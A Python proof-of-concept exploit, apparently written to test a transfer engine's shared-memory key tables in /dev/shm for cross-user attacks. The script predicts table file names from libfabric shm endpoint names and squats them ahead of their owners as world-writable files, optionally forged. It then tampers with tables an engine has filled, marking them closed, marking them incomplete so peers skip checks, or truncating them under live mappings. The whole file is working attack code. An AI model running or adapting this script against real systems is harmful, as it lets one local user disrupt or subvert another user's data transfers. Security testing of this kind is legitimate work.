#!/usr/bin/env python3
"""A local process of ANOTHER user against fabric/shm's key tables (/dev/shm/transfer-engine-keys-<FNV-1a of the
endpoint name>). The name libfabric's shm (2.1) gives an endpoint is "fi_shm://<pid>:<uid>:<endpoint>\\0", so the
file of a process not started yet is known in advance.

  read               tries to read and to open for writing every key table there is (they should be rw-------)
  squat PID COUNT UID [forged]
                     creates the tables of user UID's pids PID..PID+COUNT-1 (endpoints 0..7) before their
                     owners do, world-writable (mode 0666): empty, or (forged) a valid table marked closed
  tamper ACTION      for every squatted table an engine has since filled: closed (mark it closed: its peers refuse
                     every access), open (mark it incomplete: its peers check nothing) or truncate (cut it to 0 bytes
                     under the mappings)
  clean              removes the squatted tables that are still this user's
"""
import glob
import json
import os
import struct
import sys

DIRECTORY = "/dev/shm"
MAGIC = 0x54454B4559530001
INCOMPLETE_AT, CLOSED_AT = 32, 40


def fnv(data):
    value = 0xCBF29CE484222325
    for byte in data:
        value = ((value ^ byte) * 0x100000001B3) & 0xFFFFFFFFFFFFFFFF
    return value


def path_of(pid, uid, endpoint):
    name = b"fi_shm://%d:%d:%d\0" % (pid, uid, endpoint)
    return os.path.join(DIRECTORY, "transfer-engine-keys-%016x" % fnv(name))


def read():
    result = {"tables": 0, "readable": 0, "writable": 0, "errors": []}
    for path in glob.glob(DIRECTORY + "/transfer-engine-keys-*"):
        if os.stat(path).st_uid == os.getuid():
            continue
        result["tables"] += 1
        for mode, key in ((os.O_RDONLY, "readable"), (os.O_RDWR, "writable")):
            try:
                os.close(os.open(path, mode))
                result[key] += 1
            except OSError as e:
                if e.strerror not in result["errors"]:
                    result["errors"].append(e.strerror)
    print(json.dumps(dict(result, mode="read", uid=os.getuid())))


def squat(first, count, uid, forged):
    made = 0
    old = os.umask(0)
    # magic, capacity, posting, pid, incomplete, closed: a table whose owner "closed" its endpoint
    header = struct.pack("<QQQQQQ", MAGIC, 1 << 14, 0, first, 0, 1) + bytes(16)
    for pid in range(first, first + count):
        for endpoint in range(8):
            try:
                fd = os.open(path_of(pid, uid, endpoint), os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o666)
                if forged:
                    os.write(fd, header)
                    os.ftruncate(fd, 64 + (1 << 14) * 32)
                os.close(fd)
                made += 1
            except FileExistsError:
                pass
    os.umask(old)
    print(json.dumps({"mode": "squat", "pids": [first, first + count - 1], "uid": uid, "files": made,
                      "forged": forged}))


def mine():
    return [p for p in glob.glob(DIRECTORY + "/transfer-engine-keys-*") if os.stat(p).st_uid == os.getuid()]


def tamper(action):
    filled, done = 0, 0
    for path in mine():
        if os.path.getsize(path) < 64:
            continue
        filled += 1
        with open(path, "r+b") as table:
            if struct.unpack("<Q", table.read(8))[0] != MAGIC:
                continue
            if action == "truncate":
                table.truncate(0)
            else:
                table.seek(CLOSED_AT if action == "closed" else INCOMPLETE_AT)
                table.write(struct.pack("<Q", 1))
            done += 1
    print(json.dumps({"mode": "tamper", "action": action, "filled_by_an_engine": filled, "tampered": done}))


def clean():
    files = mine()
    for path in files:
        os.unlink(path)
    print(json.dumps({"mode": "clean", "removed": len(files)}))


if __name__ == "__main__":
    command = sys.argv[1]
    if command == "read":
        read()
    elif command == "squat":
        squat(int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5:] == ["forged"])
    elif command == "tamper":
        tamper(sys.argv[2])
    else:
        clean()
